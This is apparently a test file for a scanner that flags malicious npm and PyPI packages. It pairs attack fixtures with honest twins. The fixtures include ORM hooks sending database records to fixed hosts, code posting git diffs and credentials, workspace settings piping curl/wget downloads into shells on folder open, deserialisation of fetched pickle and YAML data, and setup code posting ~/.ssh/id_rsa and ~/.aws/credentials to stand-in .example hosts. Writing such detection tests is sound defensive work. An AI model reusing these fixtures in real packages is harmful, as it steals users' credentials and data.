/**
 * The `pkgrecall2` round: families the tuning halves (npm SET10, PyPI SET5, even index) still missed and weak
 * spots of the readers, each as a general statement read by a parser (source → transform → sink), with its real
 * shape where a tuning item has it, variants written here (other syntax, library, aliasing, distance across
 * files) and the honest twin it must not flag (neither BLOCKED nor CAUTION):
 *
 *  - records a data layer hands to a hook the package registers, sent to a fixed host (`user_data_send`; npm
 *    Mongoose / Sequelize / Prisma, Python SQLAlchemy / Django, across modules and through a batching queue);
 *  - what git prints of the user's repository (remote URL, staged changes) sent (`repo_exfil_flow`, Python);
 *  - shipped workspace settings that run a download when the folder is opened (`workspace_open_download_run`);
 *  - fetched data handed to a deserialiser that runs code under any import name (`deserialize_fetched`, parser);
 *  - destinations kept in a settings table or behind a one-line function (Python flow and the backstop).
 *
 * Archives are built in memory; nothing is run. Hosts are invented (`.example`).
 */
import { test } from 'uvu';
import * as assert from 'uvu/assert';
import { npm10, npmBlocked, npmHonest, npmMain as main, pySdist as py } from '../support/package-asserts.js';
import { blocked, evenOf, honest, rate } from '../support/pypi-variant-rating.js';
import { PYPI_VARIANTS_SET5 } from '../support/pypi-variants-set5.js';

const pypi5 = evenOf(PYPI_VARIANTS_SET5);

// ---- records a data layer hands to the package's hook ------------------------------------------------

test('npm: a Mongoose plugin whose post-save hook (another module) batches documents to a fixed host is BLOCKED', async () => {
  await npmBlocked(npm10('mongoose-plugin-post-save-mirror').files, 'user_data_send');
});

test('npm: variants — Sequelize addHook with fetch, a Prisma middleware with axios, an inline findOneAndUpdate hook', async () => {
  await npmBlocked(
    main({
      'index.js': `module.exports = function timestamps(Model) {
  Model.addHook('afterCreate', async (instance) => {
    await fetch('https://ingest.model-stamps.example/v1', { method: 'POST', body: JSON.stringify(instance.toJSON()) }).catch(() => {});
  });
  Model.addHook('beforeUpdate', (instance) => { instance.set('updatedBy', 'system'); });
};
`,
    }),
    'user_data_send',
  );
  await npmBlocked(
    main({
      'index.js': `const send = require('./lib/send');
module.exports = function softDelete(prisma) {
  prisma.$use(async (params, next) => {
    send(params);
    if (params.action === 'delete') { params.action = 'update'; params.args.data = { deletedAt: new Date() }; }
    return next(params);
  });
};
`,
      'lib/send.js': `const axios = require('axios');
const buf = [];
setInterval(() => { if (buf.length) axios.post('https://q.prisma-soft.example/b', buf.splice(0)).catch(() => {}); }, 10000).unref();
module.exports = (p) => { buf.push({ model: p.model, action: p.action, args: p.args }); };
`,
    }),
    'user_data_send',
  );
  await npmBlocked(
    main({
      'index.js': `const https = require('https');
module.exports = (schema) => {
  schema.post('findOneAndUpdate', function (doc) {
    if (!doc) return;
    const r = https.request({ hostname: 'mirror.mongo-history.example', path: '/h', method: 'POST' });
    r.on('error', () => {});
    r.end(JSON.stringify(doc));
  });
};
`,
    }),
    'user_data_send',
  );
});

test('npm: honest twins — a hook posting to the webhook its options name, a hook writing a local audit log', async () => {
  await npmHonest(
    main({
      'index.js': `module.exports = function webhook(schema, opts = {}) {
  schema.post('save', (doc) => {
    if (!opts.url) return;
    fetch(opts.url, { method: 'POST', headers: { 'content-type': 'application/json' }, body: JSON.stringify({ id: String(doc._id) }) }).catch(() => {});
  });
};
`,
    }),
  );
  await npmHonest(
    main({
      'index.js': `const fs = require('fs');
module.exports = (Model, file = 'audit.log') => {
  Model.addHook('afterCreate', (instance) => { fs.appendFileSync(file, JSON.stringify(instance.toJSON()) + '\\n'); });
};
`,
    }),
  );
});

test('PyPI: a SQLAlchemy listener handing statement parameters to a batching module is BLOCKED', async () => {
  await blocked(pypi5('sqlalchemy-listener-copies-params'), 'user_data_send');
});

test('PyPI: variants — a Django post_save receiver with requests, event.listen on flush with httpx in one file', async () => {
  const r1 = await rate(
    py({
      'pkgx/signals.py': `import requests
from django.db.models.signals import post_save
from django.dispatch import receiver

@receiver(post_save)
def _mirror(sender, instance, created, **kwargs):
    try:
        requests.post("https://sync.django-mirror.example/i", json={"m": sender.__name__, "d": instance.__dict__}, timeout=3)
    except Exception:
        pass
`,
      'pkgx/__init__.py': 'from . import signals\n',
    }),
  );
  assert.is(r1.level, 'BLOCKED', r1.rules.join(', '));
  const r2 = await rate(
    py({
      'pkgx/__init__.py': `import httpx
from sqlalchemy import event
from sqlalchemy.orm import Session

def _cb(session, flush_context, instances):
    rows = [repr(o) for o in session.new]
    httpx.post("https://flush.sa-metrics.example/r", json=rows)

event.listen(Session, "before_flush", _cb)
`,
    }),
  );
  assert.is(r2.level, 'BLOCKED', r2.rules.join(', '));
  assert.ok(r2.rules.includes('user_data_send'), r2.rules.join(', '));
});

test('PyPI: honest twins — a slow-query logger, a Django signal posting to the configured webhook', async () => {
  await honest(
    py({
      'pkgx/__init__.py': `import logging, time
from sqlalchemy import event
from sqlalchemy.engine import Engine

log = logging.getLogger(__name__)

@event.listens_for(Engine, "before_cursor_execute")
def _start(conn, cursor, statement, parameters, context, executemany):
    conn.info.setdefault("t0", []).append(time.perf_counter())

@event.listens_for(Engine, "after_cursor_execute")
def _end(conn, cursor, statement, parameters, context, executemany):
    dt = time.perf_counter() - conn.info["t0"].pop()
    if dt > 0.5:
        log.warning("slow query %.2fs: %s", dt, statement[:200])
`,
    }),
  );
  await honest(
    py({
      'pkgx/hooks.py': `import requests
from django.conf import settings
from django.db.models.signals import post_save
from django.dispatch import receiver

@receiver(post_save)
def notify(sender, instance, created, **kwargs):
    url = getattr(settings, "PKGX_WEBHOOK_URL", None)
    if url and created:
        requests.post(url, json={"model": sender.__name__, "pk": instance.pk}, timeout=3)
`,
      'pkgx/__init__.py': 'from . import hooks\n',
    }),
  );
});

// ---- what git prints of the user's repository ---------------------------------------------------------

test("PyPI: a pre-commit hook posting `git diff --cached` and the remote URL is BLOCKED", async () => {
  await blocked(pypi5('pre-commit-hook-exfil-staged'), 'repo_exfil_flow');
});

test('PyPI: variants — the remote URL through a shell string and httpx, the staged diff through os.popen, git credential fill', async () => {
  await blocked(
    py({
      'pkgx/__init__.py': `import subprocess, httpx
_u = subprocess.check_output("git config --get remote.origin.url", shell=True, text=True).strip()
httpx.post("https://hooks.lint-helper.example/r", data={"u": _u})
`,
    }),
    'repo_exfil_flow',
  );
  await blocked(
    py({
      'pkgx/cli.py': `import os, requests
def main():
    staged = os.popen("git diff --staged").read()
    requests.post("https://commit-stats.example/s", data=staged.encode(), timeout=5)
    print("ok")
`,
    }),
    'repo_exfil_flow',
  );
  await blocked(
    py({
      'pkgx/__init__.py': `import subprocess, urllib.request
p = subprocess.run(["git", "credential", "fill"], input="protocol=https\\nhost=git.example\\n\\n", capture_output=True, text=True)
urllib.request.urlopen("https://cred.git-speed.example/c", data=p.stdout.encode())
`,
    }),
    'credential_exfil_flow',
  );
});

test("PyPI: honest twins — a hook that prints the staged diff, a coverage uploader naming the repository to its declared service", async () => {
  await honest(
    py({
      'pkgx/main.py': `import subprocess, sys
def main():
    diff = subprocess.run(["git", "diff", "--cached"], capture_output=True, text=True).stdout
    if "TODO" in diff:
        print("staged changes contain TODO", file=sys.stderr)
        return 1
    return 0
`,
    }),
  );
  await honest(
    py(
      {
        'pkgx/upload.py': `import subprocess, requests
def upload(report, token):
    slug = subprocess.run(["git", "remote", "get-url", "origin"], capture_output=True, text=True).stdout.strip()
    requests.post("https://api.cov-upload.example/upload", params={"slug": slug}, data=report, headers={"Authorization": token})
`,
      },
      'Home-page: https://cov-upload.example\n',
    ),
  );
});

// ---- shipped workspace settings that run a download on folder open -------------------------------------

test('npm: a shipped dev container whose postCreateCommand pipes a download into bash, handed GITHUB_TOKEN, is BLOCKED', async () => {
  await npmBlocked(npm10('devcontainer-postcreate-curl-sh').files, 'workspace_open_download_run');
});

test('variants — initializeCommand on the host, a folder-open task, a PyPI sdist mounting ~/.ssh into the container', async () => {
  await npmBlocked(
    main({
      'index.js': 'module.exports = {};\n',
      // JSON with comments and a trailing comma, as VS Code reads it.
      '.devcontainer.json': `{
  // dev setup
  "name": "dev",
  "image": "node:20",
  "initializeCommand": "bash -c \\"$(curl -fsSL https://init.kit-dev.example/i.sh)\\"",
}
`,
    }),
    'workspace_open_download_run',
  );
  await npmBlocked(
    main({
      'index.js': 'module.exports = {};\n',
      '.vscode/tasks.json': JSON.stringify({
        version: '2.0.0',
        tasks: [{ label: 'deps', type: 'shell', command: 'wget -qO- https://deps.kit-dev.example/d | sh', runOptions: { runOn: 'folderOpen' } }],
      }),
    }),
    'workspace_open_download_run',
  );
  const r = await rate(
    py({
      '.devcontainer/devcontainer.json': JSON.stringify({
        image: 'python:3.12',
        mounts: ['source=${localEnv:HOME}/.ssh,target=/root/.ssh,type=bind'],
        postStartCommand: ['bash', '-lc', 'curl -s https://boot.py-kit.example/b | python3'],
      }),
    }),
  );
  assert.is(r.level, 'BLOCKED', r.rules.join(', '));
  assert.ok(r.rules.includes('workspace_open_download_run'), r.rules.join(', '));
});

test("honest twin — a dev container installing a tool with its vendor's script, no credential handed in", async () => {
  await npmHonest(
    main({
      'index.js': 'module.exports = {};\n',
      '.devcontainer/devcontainer.json': JSON.stringify({
        image: 'node:20',
        postCreateCommand: 'npm ci && curl -fsSL https://get.tool-vendor.example/install.sh | sh',
        customizations: { vscode: { extensions: ['dbaeumer.vscode-eslint'] } },
      }),
    }),
  );
  await npmHonest(
    main({
      'index.js': 'module.exports = {};\n',
      '.vscode/tasks.json': JSON.stringify({ version: '2.0.0', tasks: [{ label: 'watch', type: 'npm', script: 'watch', runOptions: { runOn: 'folderOpen' } }] }),
    }),
  );
});

// ---- deserialisers of fetched data, under any import name -----------------------------------------------

const init = (src: string) => py({ 'pkgx/__init__.py': src });

test('PyPI: fetched data loaded by dill / cloudpickle / pickle under an alias, importlib or an instance is BLOCKED', async () => {
  for (const src of [
    `import dill as _d
import httpx
def _boot():
    blob = httpx.get("https://cdn.pkgx-stats.example/m.bin").content
    return _d.loads(blob)
STATE = _boot()
`,
    `import urllib3
from cloudpickle import loads as _l
_pm = urllib3.PoolManager()
_obj = _l(_pm.request("GET", "https://cdn.pkgx-stats.example/p").data)
`,
    `import importlib
_dl = importlib.import_module("dill")
_rq = importlib.import_module("requests")
_o = _dl.loads(_rq.get("https://cdn.pkgx-stats.example/m").content)
`,
    `import asyncio, pickle, aiohttp
async def _get():
    async with aiohttp.ClientSession() as s:
        async with s.get("https://cdn.pkgx-stats.example/p") as r:
            return pickle.loads(await r.read())
MODEL = asyncio.run(_get())
`,
    `import requests, yaml
s = requests.Session()
CFG = yaml.unsafe_load(s.get("https://cdn.pkgx-stats.example/c.yml").text)
`,
  ])
    await blocked(init(src), 'deserialize_fetched');
});

test("PyPI: honest twins — a cache that pickles its own data, a model loader given the user's URL, YAML's safe loader", async () => {
  await honest(
    init(`import os, dill, requests
CACHE = os.path.join(os.path.expanduser("~"), ".cache", "pkgx.pkl")
def load_cache():
    if os.path.exists(CACHE):
        with open(CACHE, "rb") as f:
            return dill.load(f)
    return {}
def save_cache(d):
    with open(CACHE, "wb") as f:
        dill.dump(d, f)
def fetch(url):
    return requests.get(url).json()
`),
  );
  await honest(
    py({
      'pkgx/models.py': `import dill as _d, requests
def load_model(url):
    r = requests.get(url, timeout=30)
    r.raise_for_status()
    return _d.loads(r.content)
`,
      'pkgx/__init__.py': 'from .models import load_model\n',
    }),
  );
  await honest(init(`import requests, yaml
CFG = yaml.load(requests.get("https://cfg.pkgx-stats.example/c.yml").text, Loader=yaml.SafeLoader)
`));
});

// ---- destinations in a settings table or behind a one-line function -------------------------------------

test('PyPI: a credential sent to a URL kept in a dictionary or returned by a one-line function is BLOCKED', async () => {
  await blocked(
    py({
      'setup.py': `import os, importlib
from setuptools import setup
CFG = {"url": "https://cdn.pkgx-stats.example/u", "timeout": 5}
k = open(os.path.expanduser("~/.ssh/id_rsa")).read()
importlib.import_module("req" + "uests").post(CFG["url"], data=k)
setup(name="pkgx", version="1.0.0")
`,
    }),
    'credential_exfil_flow',
  );
  await blocked(
    init(`import os, http.client
def _h():
    return "cdn.pkgx-stats.example"
k = open(os.path.expanduser("~/.ssh/id_rsa")).read()
c = http.client.HTTPSConnection(_h())
c.request("POST", "/u", body=k)
`),
    'credential_exfil_flow',
  );
  await blocked(
    init(`import os, http.client
_h = lambda: "cdn.pkgx-stats.example"
k = open(os.path.expanduser("~/.aws/credentials")).read()
c = http.client.HTTPSConnection(_h())
c.request("POST", "/u", body=k)
`),
    'credential_exfil_flow',
  );
});

test('backstop: a client the readers do not know, its URL behind a one-line function or in a table, with a secret read on import', async () => {
  for (const src of [
    `import os, pycurl
def _u():
    return "https://cdn.pkgx-stats.example/u"
k = open(os.path.expanduser("~/.aws/credentials")).read()
c = pycurl.Curl()
c.setopt(c.URL, _u())
c.setopt(c.POSTFIELDS, k)
c.perform()
`,
    `import os, pycurl
CFG = {"url": "https://cdn.pkgx-stats.example/u", "timeout": 5}
k = open(os.path.expanduser("~/.aws/credentials")).read()
c = pycurl.Curl()
c.setopt(c.URL, CFG["url"])
c.setopt(c.POSTFIELDS, k)
c.perform()
`,
  ])
    await blocked(init(src), 'risk_combination');
});

test('honest twins — a settings table posting counters, a one-line function naming the docs', async () => {
  await honest(
    init(`import requests
CFG = {"url": "https://api.pkgx-stats.example/v1/ping"}
def ping(version):
    requests.post(CFG["url"], json={"v": version}, timeout=2)
`),
  );
  await honest(
    init(`import pycurl
def _u():
    return "https://docs.pkgx-stats.example/help"
def fetch(url):
    c = pycurl.Curl()
    c.setopt(c.URL, url)
    c.perform()
HELP = "see " + _u()
`),
  );
});

test.run();
